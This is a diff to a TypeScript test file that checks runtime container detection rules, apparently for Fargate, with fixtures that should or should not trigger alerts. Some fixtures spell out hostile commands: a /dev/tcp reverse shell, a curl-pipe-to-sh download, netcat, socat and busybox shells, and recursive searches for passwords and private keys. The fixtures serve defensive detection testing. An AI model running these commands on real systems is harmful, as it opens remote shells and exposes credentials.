@@ -3,7 +3,7 @@
 import { readFileSync } from 'node:fs';
 import { test } from 'uvu';
 import * as assert from 'uvu/assert';
-import type { SyscallEvent } from '../../src/events/model.js';
+import type { ProcessInfo, SyscallEvent } from '../../src/events/model.js';
 import { defaultRulesPath, loadRuleFiles } from '../../src/rules/index.js';
 import { CONTAINER, connect, event, execve, fileFd, openat, O_CREAT, O_TRUNC, O_WRONLY, proc, procChain, tcpFd } from './events.js';
 import '../../src/rules/yaml-positions.js';
@@ -48,14 +48,66 @@ test('private key or cloud credential read', () => {
 
 test('shell started by a server process', () => {
   const r = 'Fargate shell started by a server process';
-  fires(r, execve(procChain('sh', ['node'], { args: ['-c', 'id'] })), execve(procChain('bash', ['java'])));
-  quiet(r, execve(procChain('sh', ['tini'])), execve(procChain('ls', ['node'])), execve(procChain('sh', ['node']), -2));
+  const sh = (parent: ProcessInfo, ...args: string[]) => execve(proc({ comm: 'sh', args, parent }));
+  const node = proc({ comm: 'node', args: ['server.js'] });
+  const java = proc({ comm: 'java', args: ['-jar', 'app.jar'] });
+  const npm = proc({ comm: 'node', args: ['/usr/local/bin/npm', 'start'] });
+  fires(
+    r,
+    sh(proc({ comm: 'nginx' }), '-c', 'id'), // a web server never needs a shell
+    execve(procChain('bash', ['java'])), // reads commands from its stdin: a pipe to a socket
+    sh(proc({ comm: 'python3' }), '-i'),
+    execve(proc({ comm: 'bash', args: ['-li'], parent: java })),
+    sh(node, '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'),
+    sh(proc({ comm: 'php-fpm' }), '-c', 'curl -fsS http://10.0.0.1/x | sh'),
+    execve(proc({ comm: 'bash', args: ['-i'], parent: proc({ comm: 'sh', args: ['-c', 'bash -i'], parent: java }) })),
+  );
+  quiet(
+    r,
+    execve(procChain('sh', ['tini'])),
+    execve(procChain('ls', ['node'])),
+    execve(procChain('sh', ['node']), -2),
+    sh(npm, '-c', 'node server.js'), // npm start
+    sh(java, '-c', 'uname -s; df -k / | tail -n 1'), // ProcessBuilder
+    sh(proc({ comm: 'python3' }), '-c', 'ls /data | sha256sum'), // subprocess(shell=True)
+    sh(node, '/app/scripts/migrate.sh'),
+    execve(proc({ comm: 'bash', args: ['--version'], parent: node })),
+    sh(node, '-o', 'pipefail', '-c', 'ls | wc -l'),
+    execve(proc({ comm: 'bash', args: ['-lc', 'env'], parent: java })),
+    sh(node, '-c', 'grep -i ready /tmp/status'),
+    sh(proc({ comm: 'apache2' }), '-c', '/usr/bin/rotatelogs /var/log/apache2/access.%Y%m%d 86400'), // piped logs
+    execve(proc({ comm: 'sh', args: ['-i'], parent: proc({ comm: 'sh', args: ['-c', 'sh -i'], parent: proc({ comm: 'tini' }) }) })),
+  );
 });
 
 test('credential search', () => {
   const r = 'Fargate credential search';
-  fires(r, execve(proc({ comm: 'grep', args: ['-ri', 'password', '/app'] })), execve(proc({ comm: 'find', args: ['/', '-name', 'id_rsa'] })));
-  quiet(r, execve(proc({ comm: 'grep', args: ['-q', 'ready', '/tmp/status'] })), execve(proc({ comm: 'cat', args: ['password.txt'] })));
+  const grep = (parent?: ProcessInfo) => execve(proc({ comm: 'grep', args: ['-r', 'password', '/app/config'], parent }));
+  const entrypoint = proc({ comm: 'docker-entrypoi', exepath: '/usr/bin/dash', args: ['/docker-entrypoint.sh', 'node', 'server.js'] });
+  const shc = (parent?: ProcessInfo) => proc({ comm: 'sh', exepath: '/usr/bin/dash', args: ['-c', 'cd /app && grep -r password .'], parent });
+  fires(
+    r,
+    execve(proc({ comm: 'grep', args: ['-ri', 'password', '/app'] })), // as the container's command
+    execve(proc({ comm: 'find', args: ['/', '-name', 'id_rsa'] })),
+    grep(proc({ comm: 'sh', args: ['-i'] })), // typed into an interactive shell
+    grep(proc({ comm: 'bash' })), // a shell reading its stdin
+    grep(proc({ comm: 'node', args: ['server.js'] })), // run by the server itself
+    grep(shc(proc({ comm: 'java', args: ['-jar', 'app.jar'] }))), // by a shell the server started
+    grep(proc({ comm: 'sh', args: ['/tmp/x.sh'], parent: shc(proc({ comm: 'node', args: ['server.js'] })) })), // by a script it started
+    // a busybox applet run by busybox sh (through /proc/self/exe): proc.name is "exe"
+    execve(proc({ comm: 'exe', exe: 'grep', exepath: '/bin/busybox', args: ['-ri', 'password', '/'], parent: proc({ comm: 'sh', args: ['-i'] }) })),
+  );
+  quiet(
+    r,
+    execve(proc({ comm: 'grep', args: ['-q', 'ready', '/tmp/status'] })),
+    execve(proc({ comm: 'cat', args: ['password.txt'] })),
+    grep(entrypoint), // a configuration check in the entrypoint script
+    grep(proc({ comm: 'sh', args: ['/app/check-config.sh'] })),
+    grep(shc(proc({ comm: 'tini', args: ['--', '/docker-entrypoint.sh'] }))),
+    grep(shc(proc({ comm: 'node', args: ['/usr/local/bin/npm', 'run', 'check'] }))), // an npm script
+    grep(shc(proc({ comm: 'node', args: ['/opt/yarn-v1.22.19/bin/yarn.js', 'check'] }))),
+    grep(proc({ ...entrypoint, parent: shc(proc({ comm: 'node', args: ['/usr/bin/npm', 'start'] })) })), // npm start runs the entrypoint
+  );
 });
 
 test('link over a sensitive file', () => {
@@ -94,7 +146,7 @@ test('ptrace attach', () => {
   const r = 'Fargate ptrace attach';
   const pt = (comm: string, request: number, res = 0) => event('ptrace', proc({ comm }), { res, args: { res, request, pid: 7 } });
   fires(r, pt('inject', 16), pt('inject', 5));
-  quiet(r, pt('gdb', 16), pt('inject', 16, -1), pt('inject', 2));
+  quiet(r, pt('gdb', 16), pt('py-spy', 16), pt('inject', 16, -1), pt('inject', 2));
 });
 
 test('log or history cleared', () => {
@@ -109,14 +161,34 @@ test('stdio redirected to a network socket', () => {
   const p = proc({ comm: 'bash' });
   const dup2 = (newfd: number, sock: boolean) =>
     event('dup2', p, { res: newfd, args: { res: newfd, oldfd: 3, newfd }, fd: sock ? tcpFd(3, '172.17.0.2', 40000, '1.2.3.4', 4444) : fileFd('/tmp/x') });
+  const accepted = (comm: string) =>
+    event('dup2', proc({ comm }), { res: 0, args: { res: 0, oldfd: 4, newfd: 0 }, fd: tcpFd(4, '10.0.0.9', 51000, '172.17.0.2', 8080, false) });
   fires(r, dup2(0, true), dup2(2, true));
-  quiet(r, dup2(1, false), dup2(7, true));
+  quiet(r, dup2(1, false), dup2(7, true), accepted('python3'));
+});
+
+test('stdio on an accepted connection', () => {
+  const r = 'Fargate stdio on an accepted connection';
+  const accepted = (who: string | ProcessInfo, newfd = 0) =>
+    event('dup2', typeof who === 'string' ? proc({ comm: who }) : who, { res: newfd, args: { res: newfd, oldfd: 4, newfd }, fd: tcpFd(4, '10.0.0.9', 51000, '172.17.0.2', 8080, false) });
+  fires(r, accepted('python3'), accepted('node', 2)); // a bind shell in an application runtime
+  // inetd-style servers hand the connection to a handler on 0 and 1
+  quiet(r, accepted('busybox'), accepted('httpd', 1), accepted('tcpsvd'), accepted('python3', 5));
+  // busybox sh runs applets through /proc/self/exe: proc.name is "exe"
+  quiet(r, accepted(proc({ comm: 'exe', exepath: '/usr/bin/busybox' })));
+  fires(r, accepted('exe'));
 });
 
 test('netcat remote execution', () => {
   const r = 'Fargate netcat remote execution';
   fires(r, execve(proc({ comm: 'nc', args: ['-e', '/bin/sh', '1.2.3.4', '4444'] })), execve(proc({ comm: 'socat', args: ['tcp:1.2.3.4:4444', 'exec:/bin/sh'] })));
-  quiet(r, execve(proc({ comm: 'nc', args: ['-z', 'db', '5432'] })));
+  const busybox = { exepath: '/usr/bin/busybox' };
+  fires(
+    r,
+    execve(proc({ comm: 'busybox', ...busybox, exe: 'busybox', args: ['nc', '-l', '-p', '4444', '-e', '/bin/sh'] })),
+    execve(proc({ comm: 'exe', ...busybox, exe: 'nc', args: ['-l', '-p', '4444', '-e', '/bin/sh'] })), // an applet run by busybox sh
+  );
+  quiet(r, execve(proc({ comm: 'nc', args: ['-z', 'db', '5432'] })), execve(proc({ comm: 'busybox', ...busybox, args: ['wget', '-e', 'robots=off', 'http://x/'] })));
 });
 
 test('cgroup release_agent write', () => {
